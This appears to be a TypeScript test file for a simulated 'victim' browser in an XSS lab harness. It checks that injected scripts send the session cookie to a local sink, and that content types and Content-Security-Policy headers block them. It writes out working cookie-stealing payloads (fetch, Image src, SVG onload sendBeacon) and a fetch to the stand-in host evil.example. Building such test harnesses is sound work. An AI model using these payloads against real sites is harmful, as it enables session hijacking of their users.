import { describe, expect, it } from 'vitest'
import { startSink } from '../sink/sink-server.ts'
import type { Visitor } from '../visitor/visitor.ts'
import { createVictim } from './victim.ts'

function pageVisitor(text: string, headers: Readonly<Record<string, string>> = {}): Visitor {
  const answer = {
    status: 200,
    text,
    ms: 1,
    headers: { 'content-type': 'text/html; charset=utf-8', ...headers },
  }
  const never = (): Promise<never> => Promise.reject(new Error('not used'))
  return {
    address: '127.2.0.1',
    cookies: new Map([['sid', '1000']]),
    traces: new Set(),
    get: () => Promise.resolve(answer),
    send: never,
    form: never,
    json: never,
    raw: () => ({ write: () => {}, isOpen: () => false, close: () => {} }),
    close: () => {},
  }
}

async function lootOf(
  makePage: (url: string) => string,
  headers?: Readonly<Record<string, string>>,
): Promise<readonly string[]> {
  const sink = await startSink()
  try {
    const view = sink.view('loot')
    await createVictim(pageVisitor(makePage(view.url('?c=')), headers)).open('/')
    return view.hits().map((hit) => hit.path)
  } finally {
    await sink.close()
  }
}

const thief = (url: string): string =>
  `<script>fetch('${url}' + encodeURIComponent(document.cookie))</script>`

describe("the victim's browser", () => {
  it.each([
    ['fetch', thief],
    [
      'an image',
      (url: string) => `<script>new Image().src = '${url}' + encodeURIComponent(document.cookie)</script>`,
    ],
    ['a beacon', (url: string) => `<svg onload="navigator.sendBeacon('${url}' + escape(document.cookie))">`],
  ])('really sends the cookie by %s', async (_name, makePage) => {
    expect(await lootOf(makePage)).toEqual(['?c=sid%3D1000'])
  })

  it('goes on after a script that is broken', async () => {
    expect(await lootOf((url) => `<script>(</script><script>throw 1</script>${thief(url)}`)).toHaveLength(1)
  })

  it('runs nothing in text, in a download, or under a policy that forbids inline scripts', async () => {
    expect(await lootOf(thief, { 'content-type': 'text/plain' })).toEqual([])
    expect(await lootOf(thief, { 'content-type': '' })).toEqual([])
    expect(await lootOf(thief, { 'content-disposition': 'attachment' })).toEqual([])
    expect(await lootOf(thief, { 'content-security-policy': "default-src 'self'" })).toEqual([])
    expect(
      await lootOf(thief, { 'content-security-policy': "script-src 'self' 'unsafe-inline'" }),
    ).toHaveLength(1)
    expect(await lootOf(thief, { 'content-security-policy': "img-src 'self'" })).toHaveLength(1)
  })

  it('runs an SVG picture that is opened as a page', async () => {
    expect(
      await lootOf((url) => `<svg xmlns="x" onload="fetch('${url}')"/>`, { 'content-type': 'image/svg+xml' }),
    ).toHaveLength(1)
  })

  it('does not leave the machine, and does not hang on a script without end', async () => {
    const victim = createVictim(
      pageVisitor("<script>fetch('http://evil.example/')</script><script>for(;;);</script>"),
    )
    expect(await victim.open('/')).toBe(2)
  })
})
